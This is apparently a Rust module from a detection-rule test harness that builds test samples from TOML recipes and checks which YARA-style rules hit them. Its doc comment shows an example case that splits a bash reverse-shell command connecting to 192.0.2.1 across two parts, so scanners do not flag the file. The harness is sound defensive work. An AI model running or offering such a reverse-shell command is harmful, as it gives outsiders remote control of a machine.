//! Tests of rules: files made by recipe, and the rules that must hit them.
//!
//! `any/shells.test.toml` stands beside `any/shells.yar` and holds cases:
//!
//! ```toml
//! [[case]]
//! name = "an interactive bash on a connection is seen"
//! hits = ["bash_reverse_shell"]
//! sample = [{ text = "bash -i >& /dev/t" }, { text = "cp/192.0.2.1/4444 0>&1" }]
//! ```
//!
//! A case without `hits` is a near miss: none of the file's rules may hit it. A sample is made of parts, so that no
//! test file holds what it is about: scanners would take it for the thing itself. Running rules is not done here: [`run`]
//! is handed a function that does.

use std::path::{Path, PathBuf};

use serde::Deserialize;

use crate::read::read_entry;
use crate::{FileRole, Problem, Survey, SurveyError};

/// Largest sample a recipe may make, in bytes.
const SAMPLE_BYTES_MAX: usize = 64 << 20;

/// A file made by recipe, and what must be said of it.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TestCase {
    /// The recipes' file.
    pub path: PathBuf,
    /// The rule file it is about, by name without ending: `any/shells`.
    pub rules: String,
    /// What the case shows, as a sentence.
    pub name: String,
    /// The rules of that file that must hit, sorted. All others must not.
    pub hits: Vec<String>,
    /// Bytes of the sample.
    pub sample: Vec<u8>,
}

/// A case whose hits are not what they should be.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct FailedCase {
    /// The case.
    pub case: TestCase,
    /// The rules of its file that did hit, sorted.
    pub hits: Vec<String>,
}

impl std::fmt::Display for FailedCase {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let listed = |names: &[String]| if names.is_empty() { "nothing".to_owned() } else { names.join(", ") };
        let FailedCase { case, hits } = self;
        write!(f, "{:?}: {}: expected {}, got {}", case.path, case.name, listed(&case.hits), listed(hits))
    }
}

/// Why a test file cannot be used.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum RecipeError {
    /// The directories cannot be read.
    #[error(transparent)]
    Survey(#[from] SurveyError),
    /// A file of recipes was left out.
    #[error("cannot use {0}")]
    File(Problem),
    /// A file of recipes is wrong.
    #[error("{path:?}: {message}")]
    Wrong {
        /// Path of the test file.
        path: PathBuf,
        /// The mistake, with line and column if known.
        message: String,
    },
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    #[serde(default)]
    case: Vec<Recipe>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Recipe {
    name: String,
    #[serde(default)]
    hits: Vec<String>,
    sample: Vec<SamplePart>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct SamplePart {
    text: Option<String>,
    wide: Option<String>,
    hex: Option<String>,
    fill: Option<String>,
    count: Option<usize>,
}

/// Every case in the `*.test.toml` files of `directories`, in order.
///
/// # Errors
///
/// [`RecipeError`] if a directory or a test file cannot be read, or a test file has a mistake.
#[expect(clippy::missing_panics_doc, reason = "the role is told by this ending")]
pub fn cases<P: AsRef<Path>>(directories: &[P]) -> Result<Vec<TestCase>, RecipeError> {
    let survey = Survey::take(directories)?;
    let mut cases = Vec::new();
    for entry in survey.of_role(FileRole::Recipes) {
        let problem = |why| RecipeError::File(Problem { path: entry.path.clone(), why });
        let file = read_entry(&survey, entry).map_err(problem)?;
        let rules = entry.name.strip_suffix(".test.toml").expect("the role is told by this ending");
        parse(&file.text, rules, &entry.path, &mut cases)?;
    }
    Ok(cases)
}

fn parse(text: &[u8], rules: &str, path: &Path, cases: &mut Vec<TestCase>) -> Result<(), RecipeError> {
    let wrong = |message: String| RecipeError::Wrong { path: path.to_path_buf(), message };
    let text = std::str::from_utf8(text).map_err(|error| wrong(error.to_string()))?;
    let file: File = toml::from_str(text).map_err(|error| wrong(error.to_string()))?;
    for recipe in file.case {
        let sample = make(&recipe.sample).map_err(|message| wrong(format!("case {:?}: {message}", recipe.name)))?;
        let mut hits = recipe.hits;
        hits.sort();
        cases.push(TestCase { path: path.to_path_buf(), rules: rules.to_owned(), name: recipe.name, hits, sample });
    }
    Ok(())
}

fn make(parts: &[SamplePart]) -> Result<Vec<u8>, String> {
    let mut sample = Vec::new();
    for part in parts {
        let bytes = match part {
            SamplePart { text: Some(text), wide: None, hex: None, fill: None, count: None } => {
                text.clone().into_bytes()
            }
            SamplePart { text: None, wide: Some(text), hex: None, fill: None, count: None } => {
                text.encode_utf16().flat_map(u16::to_le_bytes).collect()
            }
            SamplePart { text: None, wide: None, hex: Some(hex), fill: None, count: None } => unhex(hex)?,
            SamplePart { text: None, wide: None, hex: None, fill: Some(fill), count: Some(count) } => {
                let fill = unhex(fill)?;
                if fill.len().checked_mul(*count).is_none_or(|bytes| bytes > SAMPLE_BYTES_MAX) {
                    return Err(format!("a sample must not exceed {SAMPLE_BYTES_MAX} bytes"));
                }
                fill.repeat(*count)
            }
            _ => return Err("a part must be one of text, wide, hex, or fill with count".to_owned()),
        };
        if sample.len() + bytes.len() > SAMPLE_BYTES_MAX {
            return Err(format!("a sample must not exceed {SAMPLE_BYTES_MAX} bytes"));
        }
        sample.extend(bytes);
    }
    Ok(sample)
}

/// Bytes from hexadecimal digits with white space between as one likes.
fn unhex(text: &str) -> Result<Vec<u8>, String> {
    let digits: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    base16ct::mixed::decode_vec(digits).map_err(|_| format!("{text:?} is not hexadecimal"))
}

/// Runs `cases`: `scan` returns the rules that hit some bytes, each as the name of its file without ending, a colon and
/// its own name: `any/shells:bash_reverse_shell`. Hits of other files are not looked at.
pub fn run(cases: &[TestCase], mut scan: impl FnMut(&[u8]) -> Vec<String>) -> Vec<FailedCase> {
    let judge = |case: &TestCase| {
        let of_this_file = |hit: &String| Some(hit.strip_prefix(&case.rules)?.strip_prefix(':')?.to_owned());
        let mut hits: Vec<String> = scan(&case.sample).iter().filter_map(of_this_file).collect();
        hits.sort();
        hits.dedup();
        (hits != case.hits).then(|| FailedCase { case: case.clone(), hits })
    };
    cases.iter().filter_map(judge).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: Result<&[u8], &str>) {
        let mut cases = Vec::new();
        let outcome = parse(text.as_bytes(), "any/a", Path::new("a.test.toml"), &mut cases);
        match (outcome, expected) {
            (Ok(()), Ok(sample)) => assert_eq!(cases[0].sample, sample),
            (Err(error), Err(part)) => assert!(error.to_string().contains(part), "{error}"),
            (outcome, expected) => panic!("{outcome:?} instead of {expected:?}"),
        }
    }

    fn case(sample: &str) -> String {
        format!("[[case]]\nname = \"n\"\nsample = [{sample}]")
    }

    #[test]
    fn parts_become_bytes_one_after_the_other() {
        check(
            &case(r#"{ text = "ab" }, { wide = "c" }, { hex = "0D 0a" }, { fill = "00ff", count = 2 }"#),
            Ok(b"abc\0\r\n\0\xff\0\xff"),
        );
    }

    #[test]
    fn a_part_of_two_sorts_is_refused() {
        check(&case(r#"{ text = "ab", hex = "00" }"#), Err("one of text"));
        check(&case(r#"{ fill = "00" }"#), Err("one of text"));
        check(&case("{}"), Err("one of text"));
    }

    #[test]
    fn a_part_of_an_unknown_sort_is_refused() {
        check(&case(r#"{ base64 = "ab" }"#), Err("unknown field"));
    }

    #[test]
    fn half_a_byte_is_refused() {
        check(&case(r#"{ hex = "0" }"#), Err("not hexadecimal"));
        check(&case(r#"{ hex = "zz" }"#), Err("not hexadecimal"));
    }

    #[test]
    fn a_sample_without_end_is_refused() {
        check(&case(r#"{ fill = "00", count = 9000000000000000000 }"#), Err("must not exceed"));
        check(&case(r#"{ fill = "0000", count = 9000000000000000000 }"#), Err("must not exceed"));
    }

    #[test]
    fn a_case_fails_by_a_hit_too_many_or_too_few_and_not_by_those_of_other_files() {
        let of = |hits: &[&str]| TestCase {
            path: PathBuf::new(),
            rules: "any/a".into(),
            name: String::new(),
            hits: hits.iter().map(|&hit| hit.to_owned()).collect(),
            sample: Vec::new(),
        };
        let scan = |_: &[u8]| vec!["any/a:one".to_owned(), "any/ab:two".to_owned(), "pe/a:one".to_owned()];
        assert_eq!(run(&[of(&["one"])], scan), []);
        assert_eq!(run(&[of(&[])], scan)[0].hits, ["one"]);
        assert_eq!(run(&[of(&["one", "two"])], scan).len(), 1);
    }
}
